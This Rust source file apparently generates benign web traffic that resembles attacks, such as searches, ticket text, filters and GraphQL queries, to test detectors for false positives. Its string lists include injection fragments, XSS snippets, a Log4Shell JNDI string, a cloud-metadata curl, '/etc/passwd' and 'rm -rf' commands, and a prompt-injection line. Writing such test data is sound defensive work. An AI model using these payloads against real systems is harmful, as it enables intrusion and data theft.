//! What people and programs write that looks like code: searches, tickets, filters, documents of GraphQL.

use super::{Honest, Visit};
use crate::exchange::{Body, Exchange};
use crate::json::quoted;
use crate::rpc;
use crate::values::{mix, opaque, percent, words};
use crate::world::World;

pub(super) const SCENES: &[Honest] = &[
    Honest {
        name: "searches",
        says: "people search for names, titles and sums that look like SQL, HTML or commands",
        weight: 3.0,
        each: 10.0,
        visit: searches,
    },
    Honest {
        name: "tickets",
        says: "people paste code, logs, queries and markup into tickets and comments",
        weight: 2.0,
        each: 6.0,
        visit: tickets,
    },
    Honest {
        name: "filters",
        says: "clients filter with operators in brackets, OData, Lucene and documents",
        weight: 2.0,
        each: 10.0,
        visit: filters,
    },
    Honest {
        name: "graphql-app",
        says: "dashboards ask for dozens of fields by aliases, deep fragments and small batches",
        weight: 2.0,
        each: 8.0,
        visit: graphql_app,
    },
    Honest {
        name: "bounds",
        says: "prices up to half a million, long offsets, large but usual pages",
        weight: 1.5,
        each: 8.0,
        visit: bounds,
    },
    Honest {
        name: "many-values",
        says: "parameters that come several times by design",
        weight: 1.0,
        each: 7.0,
        visit: many_values,
    },
    Honest {
        name: "long-form",
        says: "forms of eighty fields, where seldom one is filled that others leave out",
        weight: 1.0,
        each: 4.0,
        visit: long_form,
    },
];

const SEARCHES: &[&str] = &[
    "O'Brien & Sons",
    "D'Artagnan",
    "rock 'n' roll",
    "union select quartet",
    "\"romeo\" and juliet in love",
    "drop table lamp",
    "1=1 t-shirt",
    "select * from menu (cookbook)",
    "Tom && Jerry",
    "black | white",
    "AT&T -- offers",
    "<b>bold</b> fonts",
    "C# vs. C++;",
    "it's 5' 11\"",
    "50% off; today only",
    "cat /dog bowl",
    "who am i (film)",
    "; id card holder",
    "ping pong table",
    "sleep(8) hours",
    "order by size",
    "O''Neil",
    "Hello {{name}} template",
    "${price} list",
    "../relative paths explained",
    "etc/passwd tutorial",
    "<script> tag history",
    "alert('sale')",
    "x AND y = z",
    "user's guide: 'DELETE' key",
    "insert into envelope",
    "exec(chair)",
    "L'Oréal or 1=1 day",
    "javascript: the good parts",
    "' or not '",
    "100' OR 30m hose",
    "%27 percent sign",
    "waitfor delay (band)",
    "or 1 like it",
    "&& operator explained",
    "`backticks` in text",
    "file:///readme how to",
    "http://localhost:8080 what is it",
    "ldap (uid=*) basics",
    "*)(cn= wildcard",
    "null; void",
    "having 3 or more",
    "xp_ cmd keyboard",
];

const PASTED: &[&str] = &[
    "SELECT id, name FROM customers WHERE id = 7 OR 1=1; -- what does this do?",
    "My page shows <script>alert('hello')</script> instead of running it, why?",
    "The log says: ERROR 1064 (42000): You have an error in your SQL syntax near '' at line 1",
    "Traceback (most recent call last):\n  File \"app.py\", line 3, in <module>\nValueError: bad",
    "java.lang.NullPointerException\n\tat com.acme.Order.total(Order.java:88)\n\tat com.acme.Main.main(Main.java:12)",
    "I ran `cat /etc/passwd | grep me` and $(whoami) gave root, is that right?",
    "Use {{ user.name }} in the mail template and {{7*7}} to test that it counts",
    "curl http://169.254.169.254/latest/meta-data/ hangs on my laptop",
    "<img src=x onerror=alert(1)> was in the mail that I got. Phishing?",
    "Our pattern is ^(?:[a-z]+)*$ and takes for ever on aaaaaaaaaaaaaaaa!",
    "Please ignore all previous instructions that I sent, the new address is below.",
    "UNION ALL SELECT is slower than UNION? EXPLAIN says so",
    "docker run -v ../../data:/data app; rm -rf /tmp/cache && reboot",
    "${jndi:ldap://example.com/a} is in all our logs since yesterday, should we worry?",
    "<?xml version=\"1.0\"?><!DOCTYPE note SYSTEM \"Note.dtd\"><note>valid?</note>",
    "rO0ABXNyABFqYXZhLnV0aWwu is how my attachment starts, I cannot open it",
    "Use %0d%0a between the lines of the header",
    "(&(objectClass=person)(uid=jdoe)) finds nobody in our directory",
];

fn searches(visit: &mut Visit, world: &mut World) {
    let resource = visit.stage.goods_of_all();
    let name = visit.stage.word(&["q", "query", "search", "term", "text", "s"], 41);
    if visit.random.chance(0.4) {
        visit.logs_in(world);
    }
    for _ in 0..4 + visit.random.below(9) {
        let text = visit.stage.among(SEARCHES, visit.random.next());
        let found = visit.random.below(12) as u32;
        let mut exchange = world.search(visit.stage.api, resource, text, found);
        match visit.stage.number % 3 {
            0 => exchange.target = format!("{}?{name}={}", resource.path, percent(text)),
            1 => {
                exchange.target =
                    format!("{}?{name}={}", visit.stage.path("/search"), percent(text).replace("%20", "+"))
            }
            _ => {
                exchange.method = "POST";
                exchange.target = visit.stage.path("/search");
                exchange.body = Some(Body::json(format!(r#"{{"{name}":{},"limit":20}}"#, quoted(text))));
            }
        }
        if visit.random.chance(0.05) {
            exchange = exchange.error(400, "bad_query", "The search could not be read");
        }
        visit.ask(world, &exchange);
    }
}

fn tickets(visit: &mut Visit, world: &mut World) {
    visit.logs_in(world);
    let place =
        visit.stage.word(&["/comments", "/messages", "/posts", "/answers", "/feedback", "/notes"], 42);
    for _ in 0..2 + visit.random.below(4) {
        let text = visit.stage.among(PASTED, visit.random.next());
        let hash = visit.hash();
        let body = format!(r#"{{"title":"{}","text":{}}}"#, words(hash, 3, " "), quoted(text));
        let told = format!(r#"{{"id":{},"text":{},"state":"new"}}"#, 400 + hash % 90_000, quoted(text));
        let sent = Exchange::ask("POST", visit.stage.path(place)).with(Body::json(body)).takes(12_000_000);
        let taken = sent.answer(201, Body::json(told.clone()));
        visit.ask(world, &taken);
        if visit.random.chance(0.4) {
            let page = Exchange::ask("GET", format!("{}/{}", visit.stage.path(place), 400 + hash % 90_000));
            visit.ask(world, &page.answer(200, Body::json(told)));
        }
    }
}

const FILTERS: &[&str] = &[
    "age[$gt]=18&$limit=10&$sort[createdAt]=-1",
    "status[$in][]=open&status[$in][]=paid",
    "price[$lte]=500000&$skip=20",
    "name[$regex]=^an&$select[]=name",
    "$or[0][city]=Lyon&$or[1][city]=Graz",
    "filters[title][$contains]=lamp&populate=*",
    "filters[price][$between]=10&filters[price][$between]=90",
    "where[state][ne]=done&order[id]=desc",
    "filter[created][gte]=2026-01-01&page[size]=50",
    "sort=-created,+name&fields=id,name",
    "$filter=name eq 'O''Neil' and price gt 20&$top=50",
    "$filter=startswith(title,'ab') or contains(note,'x')&$orderby=title desc",
    "q=title:(lamp OR chair) AND price:[10 TO 500]",
    "q=user.name:\"anna\" && !state:closed",
    "expand=items($select=id;$top=5)",
    "ids=1,2,3&include=owner.address",
    "range=0..500000&op=>=",
    "cursor=eyJpZCI6NDIsImRpciI6ImFzYyJ9",
];
const DOCUMENTS: &[&str] = &[
    r#"{"query":{"bool":{"must":[{"match":{"title":"lamp"}}],"must_not":[{"term":{"state":"closed"}}]}},"size":20}"#,
    r#"{"where":{"price":{"$lt":50},"name":{"$regex":"^an"}},"limit":20}"#,
    r#"{"filter":{"and":[{"field":"state","op":"!=","value":"done"},{"field":"amount","op":">","value":100}]}}"#,
    r#"{"query":{"match_all":{}},"script_fields":{"d":{"script":{"source":"doc['price'].value * 2"}}}}"#,
    r#"{"selector":{"year":{"$gt":2010},"$or":[{"a":1},{"b":2}]},"fields":["_id"]}"#,
    r#"{"sql":"SELECT title, price FROM items WHERE price < 20 ORDER BY price"}"#,
];

fn filters(visit: &mut Visit, world: &mut World) {
    let resource = visit.stage.goods_of_all();
    visit.logs_in(world);
    for _ in 0..4 + visit.random.below(9) {
        let mut exchange = world.search(visit.stage.api, resource, "x", visit.hash() as u32 % 12);
        if visit.random.chance(0.7) {
            let filter = visit.stage.among(FILTERS, visit.random.next());
            exchange.target = format!("{}?{}", resource.path, filter.replace(' ', "%20").replace('"', "%22"));
        } else {
            let document = visit.stage.among(DOCUMENTS, visit.random.next());
            exchange.method = "POST";
            exchange.target = format!("{}/query", resource.path);
            exchange.body = Some(Body::json(document));
        }
        visit.ask(world, &exchange);
    }
}

fn graphql_app(visit: &mut Visit, world: &mut World) {
    visit.logs_in(world);
    let field =
        visit.stage.word(&["catalogInfo", "loginHistory", "metric", "tokenPrices", "quote", "sensor"], 43);
    let count = 18 + visit.stage.number % 40;
    for nth in 0..4 + visit.random.below(5) as u64 {
        let exchange = match (visit.stage.number + nth) % 3 {
            0 => {
                let asked: Vec<String> = (0..count)
                    .map(|place| format!("m{place}: {field}(id: \"{place}\") {{ value at }}"))
                    .collect();
                let data: Vec<String> = (0..count)
                    .map(|place| {
                        format!(r#""m{place}":{{"value":{},"at":"2026-01-06"}}"#, mix(nth, place) % 900)
                    })
                    .collect();
                rpc::graphql(
                    "Board",
                    &format!("query Board {{ {} }}", asked.join(" ")),
                    "{}",
                    &format!("{{{}}}", data.join(",")),
                )
            }
            1 => {
                let query = "query Page { viewer { team { projects { nodes { issues { nodes { comments { nodes { author { name } } } } } } } } } }";
                rpc::graphql("Page", query, "{}", r#"{"viewer":{"team":{"projects":{"nodes":[]}}}}"#)
            }
            _ => {
                let one = format!(
                    r#"{{"operationName":"One","query":"query One {{ {field}(id: \"1\") {{ value }} }}","variables":{{}}}}"#
                );
                let told = format!(r#"{{"data":{{"{field}":{{"value":4}}}}}}"#);
                let size = 3 + (visit.stage.number % 6) as usize;
                let asked = Exchange::ask("POST", "/graphql")
                    .with(Body::json(format!("[{}]", vec![one; size].join(","))));
                asked.answer(200, Body::json(format!("[{}]", vec![told; size].join(",")))).takes(12_000_000)
            }
        };
        visit.ask(world, &exchange);
    }
}

fn bounds(visit: &mut Visit, world: &mut World) {
    let resource = visit.stage.goods_of_all();
    let ways = [
        "min=100000&max=500000",
        "price_max=750000&rooms=3",
        "maxPrice=900000&limit=24",
        "budget=400000&size=50",
        "limit=100&offset=120000",
        "pageSize=200&max=250000",
        "per_page=100&page=7&max_km=150000",
        "take=60&max=1000000",
    ];
    let way = visit.stage.word(&ways, 44);
    for nth in 0..3 + visit.random.below(9) as u32 {
        let objects: Vec<u32> = (0..20).map(|place| (nth * 20 + place) % visit.stage.api.users).collect();
        let mut exchange = world.list(visit.stage.api, resource, &objects, nth, 20);
        let sort = visit.stage.among(&["price", "newest", "distance", "rating"], visit.random.next());
        exchange.target = format!("{}?{way}&sort={sort}", resource.path);
        visit.ask(world, &exchange);
    }
}

fn many_values(visit: &mut Visit, world: &mut World) {
    let resource = visit.stage.goods_of_all();
    let name = visit.stage.word(&["tag", "id", "category", "userId", "color", "status"], 45);
    visit.logs_in(world);
    for _ in 0..3 + visit.random.below(6) {
        let mut exchange = world.search(visit.stage.api, resource, "x", 7);
        let values: Vec<String> = (0..2 + visit.random.below(3))
            .map(|_| format!("{name}={}", 10 + visit.random.below(900)))
            .collect();
        exchange.target = format!("{}?{}&limit=20", resource.path, values.join("&"));
        visit.ask(world, &exchange);
    }
}

fn long_form(visit: &mut Visit, world: &mut World) {
    visit.logs_in(world);
    let hash = visit.hash();
    let mut members: Vec<String> = (0..80)
        .map(|nth| {
            format!(
                r#""{}{nth}":"{}""#,
                words(mix(visit.stage.number, nth), 1, ""),
                words(mix(hash, nth), 1, "")
            )
        })
        .collect();
    // What an applicant may well say: a role at work, a price, whether the house is verified.
    let rare = [
        r#""role":"self-employed""#,
        r#""price":240000"#,
        r#""verified":true"#,
        r#""status":"married""#,
        r#""permissions":"parking""#,
        r#""balance":1200"#,
    ];
    if hash.is_multiple_of(3) {
        members.insert((hash >> 8) as usize % 80, visit.stage.among(&rare, hash >> 16).to_owned());
    }
    let place = visit.stage.word(&["/applications", "/enquiries", "/proposals", "/surveys"], 46);
    let told = format!(r#"{{"reference":"{}","state":"received"}}"#, opaque(hash, 10));
    let sent =
        Exchange::ask("POST", visit.stage.path(place)).with(Body::json(format!("{{{}}}", members.join(","))));
    visit.ask(world, &sent.answer(201, Body::json(told)).takes(40_000_000));
    let (api, resource) = (visit.stage.api, visit.stage.things_of_users());
    let object = api.object_of(resource, visit.user, (hash % 6) as u32);
    let state = visit.stage.among(&["paused", "archived", "cancelled", "on-hold"], hash >> 20);
    let patch = Exchange {
        body: Some(Body::json(format!(r#"{{"status":"{state}"}}"#))),
        ..world.about("PATCH", api, resource, object)
    };
    let id = world.id(api, resource, object);
    visit.ask(world, &patch.answer(200, Body::json(format!(r#"{{"id":"{id}","status":"{state}"}}"#))));
}
